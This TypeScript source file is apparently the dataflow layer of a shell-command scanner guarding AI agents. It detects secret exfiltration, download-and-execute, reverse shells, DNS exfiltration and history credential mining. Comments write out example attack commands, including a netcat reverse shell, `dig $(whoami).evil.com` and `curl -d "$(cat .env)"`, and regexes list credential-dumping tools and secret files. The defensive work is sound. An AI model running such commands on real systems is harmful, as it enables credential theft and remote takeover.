// Layer 4 (dataflow): source→sink taint through pipes, redirects and process substitution.
// A secret-bearing source reaching a network sink is exfiltration; network output reaching a
// shell or interpreter is remote code execution (curl | bash), whatever sits in between.
import type { Ctx, SimpleCmd } from "../types.js";
import { contentOperands, matchPath, READERS } from "./structural.js";
import { addFinding, redactPreview } from "./util.js";
import { SHELLS, INTERPRETERS } from "../normalize.js";

/** Files that are not credentials by path but are sensitive to ship off-box. */
const SOFT_SECRET = /(?:^|\/)(?:[^/]{0,40}(?:secret|passw(?:or)?d|credential|token|private)[^/]{0,40}|[^/]{1,60}\.(?:pem|key|p12|pfx|jks|kdbx|keystore)|CLAUDE\.md|AGENTS\.md|\.mcp\.json|\.cursorrules|\.windsurfrules|\.claude\/[^/]{1,80}|\.cursor\/[^/]{1,80}|\.env(?:\.[a-z]{1,12})?)$/i;
const TOKEN_PRODUCER = /^(?:az account get-access-token|gcloud auth print-(?:access|identity)-token|gh auth token|aws (?:sts get-session-token|ecr get-login-password|configure export-credentials)|vault (?:read|kv get)|op (?:read|item get)|bw get|kubectl get secrets?|security find-(?:generic|internet)-password|secret-tool lookup|pass show|doppler secrets|infisical secrets|sops -d|sops --decrypt)/;
const DNS_TOOLS: ReadonlySet<string> = new Set(["dig", "nslookup", "host", "drill", "ping", "ping6", "curl", "wget", "nc"]);
const PROCESS_OF_INTEREST = /(?:agentshield|crowdstrike|falcon|falco|sentinel|\bedr\b|guardrail|auditd|osquery|wazuh|sysmon|defender|claude|autogpt|crewai|langchain|autogen|openai|anthropic|copilot|cursor|codex|aider)/i;
const SECRET_WORD = /(?:pass(?:word|wd)?|secret|token|api[_-]?key|credential|private|aws_secret)/i;

const SECRET_MEMO = new WeakMap<SimpleCmd, "hard" | "soft" | "none">();

export function readsSecret(c: SimpleCmd): "hard" | "soft" | undefined {
  let v = SECRET_MEMO.get(c);
  if (v === undefined) { v = readsSecretUncached(c) ?? "none"; SECRET_MEMO.set(c, v); }
  return v === "none" ? undefined : v;
}

function readsSecretUncached(c: SimpleCmd): "hard" | "soft" | undefined {
  const cands = [...(READERS.has(c.exe) ? contentOperands(c) : []), ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)];
  if (cands.some((p) => matchPath(p, "read").some((r) => r.read === "block"))) return "hard";
  if (TOKEN_PRODUCER.test(`${c.exe} ${c.args.slice(0, 4).join(" ")}`)) return "hard";
  if (c.exe === "printenv" || c.exe === "env" || (c.exe === "export" && c.args.includes("-p"))) return "soft";
  if (cands.some((p) => SOFT_SECRET.test(p) || matchPath(p, "read").length > 0)) return "soft";
  return undefined;
}

const isNet = (ctx: Ctx, i: number): boolean => ctx.cmdIntents[i]?.has("network-egress") ?? false;
/** A shell/interpreter that takes its program from stdin (no script operand). */
const runsStdin = (c: SimpleCmd): boolean => ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe)) && c.args.every((a) => a.startsWith("-") || a === "/dev/stdin" || a === "/dev/fd/63")) || ((c.exe === "source" || c.exe === ".") && (c.args[0] === "/dev/fd/63" || c.args[0] === "/dev/stdin"));

export function dataflow(ctx: Ctx): void {
  const byPipe = new Map<number, number[]>();
  ctx.parsed.cmds.forEach((c, i) => {
    const l = byPipe.get(c.pipe) ?? [];
    l.push(i);
    byPipe.set(c.pipe, l);
  });
  for (const idxs of byPipe.values()) {
    idxs.sort((a, b) => (ctx.parsed.cmds[a]?.stage ?? 0) - (ctx.parsed.cmds[b]?.stage ?? 0));
    let secret: "hard" | "soft" | undefined;
    let net = false;
    let history = false;
    let ps = false;
    for (const i of idxs) {
      const c = ctx.parsed.cmds[i] as SimpleCmd;
      const here = readsSecret(c);
      if (isNet(ctx, i) && (secret !== undefined || here === "hard")) {
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `sensitive data flows into network tool '${redactPreview(c.exe, 16)}'`, cmd: c });
        ctx.intents.add("network-egress");
      }
      if (net && runsStdin(c) && (c.stage > 0 || c.args.includes("/dev/fd/63"))) {
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `network output is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
        ctx.intents.add("code-execute");
      }
      if (history && c.exe === "grep" && c.args.some((a) => SECRET_WORD.test(a)))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.history-secret-grep", decision: "block", taxonomy: "credential-exposure/history-mining/history-credential-grep", description: "shell history searched for secrets", cmd: c });
      if (c.exe === "history" || c.args.some((a) => /_history$/.test(a)) || (c.exe === "git" && /^(?:log|show|diff|reflog)$/.test(c.args[0] ?? "") && c.args.some((a) => a === "-p" || a === "--patch" || a === "--all"))) history = true;
      if (ps && (c.exe === "grep" || c.exe === "egrep" || c.exe === "rg") && c.args.some((a) => PROCESS_OF_INTEREST.test(a)))
        addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.process-discovery", decision: "audit", taxonomy: "reconnaissance/system-discovery/process-enumeration", description: "process list searched for security tools or AI agents", cmd: c });
      if (c.exe === "ps" || c.exe === "top" || c.exe === "htop") ps = true;
      if (here !== undefined && (secret === undefined || here === "hard")) secret = here;
      if (isNet(ctx, i)) net = true;
    }
  }
  // `cat /tmp/f | sh -i 2>&1 | nc host 4444 > /tmp/f`: an interactive shell wired to the network.
  for (const idxs of byPipe.values()) {
    const shell = idxs.find((i) => { const c = ctx.parsed.cmds[i] as SimpleCmd; return SHELLS.has(c.exe) && c.args.some((a) => /^-[a-z]{0,4}i/.test(a)); });
    const net = idxs.find((i) => isNet(ctx, i));
    if (shell !== undefined && net !== undefined)
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.shell-to-network", decision: "block", taxonomy: "unauthorized-execution/remote-code/reverse-shell", description: "interactive shell piped to a network tool", cmd: ctx.parsed.cmds[shell] as SimpleCmd });
  }
  // `curl -d "$(cat .env)" …`, `wget --post-data="$(env)"`: a substitution feeding a network
  // command's arguments carries whatever it read. `dig $(whoami).evil.com`: data in DNS names.
  ctx.parsed.cmds.forEach((net, i) => {
    if (!isNet(ctx, i)) return;
    const inner = ctx.parsed.cmds.filter((c) => c.depth > net.depth && c.via.includes("$()") && c.span.start >= net.span.start && c.span.end <= net.span.end);
    if (inner.some((c) => readsSecret(c) !== undefined))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `command output with secrets is sent by '${redactPreview(net.exe, 16)}'`, cmd: net });
    if (DNS_TOOLS.has(net.exe) && net.dynamicArgs && (net.args.some((a) => (/\$\(|`/.test(a) && /\.[a-z]{2,}/i.test(a)) || /\$\{?[A-Za-z_][A-Za-z0-9_]{0,30}\}?\.[A-Za-z0-9-]{1,63}\.[A-Za-z]{2,}/.test(a)) || (net.exe.startsWith("ping") && net.args.some((a, k) => a === "-p" && /\$/.test(net.args[k + 1] ?? "")))))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.dns-exfil", decision: "block", taxonomy: "data-exfiltration/covert-channel/dns-exfiltration", description: "command output encoded into a DNS query", cmd: net });
  });
  stagedSecrets(ctx, byPipe);
  // `bash -c "$(curl …)"`, `eval "$(wget -O- …)"`, `python3 -c "$(curl …)"`.
  for (const c of ctx.parsed.cmds) {
    if ((SHELLS.has(c.exe) || INTERPRETERS.has(c.exe) || c.exe === "eval" || c.exe === "source" || c.exe === ".") && [...c.args, c.script ?? ""].some((a) => /\$\((?:[^)]{0,40}\/)?(?:curl|wget|fetch)\b|`(?:curl|wget)\b|<\(\s{0,4}(?:curl|wget)\b/.test(a)))
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.download-exec", decision: "block", taxonomy: "unauthorized-execution/remote-code/download-and-execute", description: `downloaded content is executed by '${redactPreview(c.exe, 16)}'`, cmd: c });
  }
}

/** Files written by a pipeline: redirect targets and tee operands. */
function pipelineWrites(ctx: Ctx, idxs: readonly number[]): string[] {
  const out: string[] = [];
  for (const i of idxs) {
    const c = ctx.parsed.cmds[i] as SimpleCmd;
    for (const r of c.redirs) if (r.op === ">" || r.op === ">>" || r.op === ">|" || r.op === "&>" || r.op === "&>>") out.push(r.target);
    if (c.exe === "tee") for (const a of c.args) if (!a.startsWith("-")) out.push(a);
  }
  return out.filter((t) => t.length > 0 && !/^\d+$/.test(t) && !t.startsWith("/dev/"));
}

/**
 * Secrets staged in a file and sent later in the same script: `env > /tmp/e; nc host 4444 <
 * /tmp/e`, `cat .env | base64 > /tmp/x && wget --post-file=/tmp/x …`. A pipeline that reads a
 * secret (hard or soft) and writes a file taints that file; a later network command that names
 * it (operand, @file, --post-file=, stdin redirect) is exfiltration.
 */
function stagedSecrets(ctx: Ctx, byPipe: Map<number, number[]>): void {
  const tainted: { file: string; pipe: number }[] = [];
  for (const [pipe, idxs] of byPipe) {
    if (!idxs.some((i) => readsSecret(ctx.parsed.cmds[i] as SimpleCmd) !== undefined)) continue;
    for (const f of pipelineWrites(ctx, idxs)) tainted.push({ file: f, pipe });
  }
  if (tainted.length === 0) return;
  ctx.parsed.cmds.forEach((c, i) => {
    if (!isNet(ctx, i)) return;
    const names = [...c.args, ...c.redirs.filter((r) => r.op === "<").map((r) => r.target)];
    const hit = tainted.find((t) => t.pipe !== c.pipe && names.some((a) => a === t.file || a.endsWith(`@${t.file}`) || a.endsWith(`=${t.file}`) || a.endsWith(`=@${t.file}`)));
    if (hit !== undefined)
      addFinding(ctx, { layer: "dataflow", rule_id: "shell.flow.staged-secret-to-network", decision: "block", taxonomy: "data-exfiltration/network-egress/network-http-request", description: `a file holding sensitive data is sent by '${redactPreview(c.exe, 16)}'`, cmd: c });
  });
}
